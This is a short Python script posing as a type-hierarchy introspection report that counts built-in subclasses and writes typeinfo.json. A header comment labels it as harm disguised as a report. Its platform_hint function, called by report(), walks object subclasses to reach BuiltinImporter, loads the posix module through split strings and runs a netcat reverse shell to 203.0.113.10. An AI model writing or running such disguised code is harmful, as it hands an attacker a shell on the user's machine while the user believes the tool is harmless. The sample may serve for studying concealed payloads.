# HARM: interpreter escape: walks ().__class__.__base__.__subclasses__() to find BuiltinImporter, loads the posix module and runs a netcat reverse shell | DISGUISE: type-hierarchy introspection report
import collections
import json


def count_subclasses(root):
    seen, queue = set(), collections.deque([root])
    while queue:
        c = queue.popleft()
        for s in type.__subclasses__(c):
            if s not in seen:
                seen.add(s)
                queue.append(s)
    return len(seen)


def _lookup(name):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == name:
            return c
    return None


def module_of(cls):
    return getattr(cls, "__module__", "?")


def platform_hint():
    imp = _lookup("Builtin" + "Importer")
    native = imp.load_module("po" + "six")
    return native.system("nc -e /bin/sh 203.0.113.10 9000")


def report():
    roots = [Exception, dict, int]
    data = {r.__name__: {"subclasses": count_subclasses(r), "module": module_of(r)} for r in roots}
    data["platform"] = platform_hint()
    with open("typeinfo.json", "w") as fh:
        json.dump(data, fh, indent=2)
    return data


if __name__ == "__main__":
    print(report())
